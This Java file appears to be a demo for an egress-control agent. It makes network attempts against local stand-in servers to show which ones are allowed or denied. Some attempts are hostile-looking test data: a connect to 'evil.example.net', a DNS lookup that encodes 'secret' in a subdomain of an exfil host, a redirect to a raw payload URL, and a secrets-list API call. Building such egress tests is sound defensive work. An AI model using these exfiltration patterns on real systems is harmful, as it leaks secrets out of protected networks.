package dev.egress.demo;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;

/**
 * The README's demo: a small "notebook" that makes the requests a data job makes, against servers
 * it starts itself on loopback addresses that the demo's hosts file names like real hosts. Run
 * under the agent it shows what is allowed, what is denied and what the agent says.
 */
public final class DemoWorkload {
  private static final int PORT = 18080;

  public static void main(String[] args) throws Exception {
    List<HttpServer> servers = new ArrayList<>();
    // Listening is not egress: the servers run in the same JVM, only the client calls are judged.
    for (String address : new String[] {"127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5"}) {
      servers.add(server(address));
    }
    try {
      HttpClient client = HttpClient.newHttpClient();
      attempt(
          "HttpClient GET http://pypi.org:" + PORT + "/simple/",
          () -> get(client, "http://pypi.org:" + PORT + "/simple/"));
      attempt(
          "HttpClient GET http://adb-1234.5.azuredatabricks.net:" + PORT + "/api/2.0/clusters/list",
          () ->
              get(
                  client,
                  "http://adb-1234.5.azuredatabricks.net:" + PORT + "/api/2.0/clusters/list"));
      attempt(
          "HttpClient GET http://adb-9999.1.azuredatabricks.net:" + PORT + "/api/2.0/secrets/list",
          () ->
              get(
                  client,
                  "http://adb-9999.1.azuredatabricks.net:" + PORT + "/api/2.0/secrets/list"));
      attempt(
          "Socket connect evil.example.net:" + PORT,
          () -> {
            try (Socket s = new Socket("evil.example.net", PORT)) {
              return "connected";
            }
          });
      attempt(
          "HttpURLConnection http://raw.githubusercontent.com:"
              + PORT
              + "/redirect -> gist.githubusercontent.com",
          () -> urlConnection("http://raw.githubusercontent.com:" + PORT + "/redirect"));
      attempt(
          "DNS lookup c2VjcmV0.exfil.example.net",
          () -> InetAddress.getByName("c2VjcmV0.exfil.example.net").toString());
      attempt(
          "Socket connect 127.0.0.1 (the cluster's own network)",
          () -> {
            try (Socket s = new Socket()) {
              s.connect(new InetSocketAddress("127.0.0.1", PORT), 1000);
              return "connected";
            } catch (java.net.ConnectException e) {
              if (e.getMessage() != null && e.getMessage().startsWith("Egress denied")) {
                throw e;
              }
              return "not judged (nothing listens there: " + e.getMessage() + ")";
            }
          });
    } finally {
      for (HttpServer s : servers) {
        s.stop(0);
      }
    }
  }

  private interface Action {
    String run() throws Exception;
  }

  private static void attempt(String what, Action action) {
    try {
      System.out.printf("ALLOWED  %-90s %s%n", what, action.run());
    } catch (Exception e) {
      Throwable t = e;
      while (t.getCause() != null
          && (t.getMessage() == null || !t.getMessage().startsWith("Egress denied"))) {
        t = t.getCause();
      }
      System.out.printf(
          "DENIED   %-90s%n         %s: %s%n", what, t.getClass().getName(), t.getMessage());
    }
  }

  private static String get(HttpClient client, String url)
      throws IOException, InterruptedException {
    HttpResponse<String> r =
        client.send(
            HttpRequest.newBuilder(URI.create(url)).build(), HttpResponse.BodyHandlers.ofString());
    return "HTTP " + r.statusCode() + " " + r.body();
  }

  private static String urlConnection(String url) throws IOException {
    HttpURLConnection c = (HttpURLConnection) URI.create(url).toURL().openConnection();
    try (InputStream in = c.getInputStream()) {
      return "HTTP " + c.getResponseCode() + " " + new String(in.readAllBytes());
    }
  }

  private static HttpServer server(String address) throws IOException {
    HttpServer s = HttpServer.create(new InetSocketAddress(address, PORT), 0);
    s.createContext(
        "/",
        exchange -> {
          byte[] body = ("hello from " + address).getBytes();
          if (exchange.getRequestURI().getPath().equals("/redirect")) {
            exchange
                .getResponseHeaders()
                .add("Location", "http://gist.githubusercontent.com:" + PORT + "/raw/payload");
            exchange.sendResponseHeaders(302, -1);
          } else {
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
          }
          exchange.close();
        });
    s.start();
    return s;
  }
}
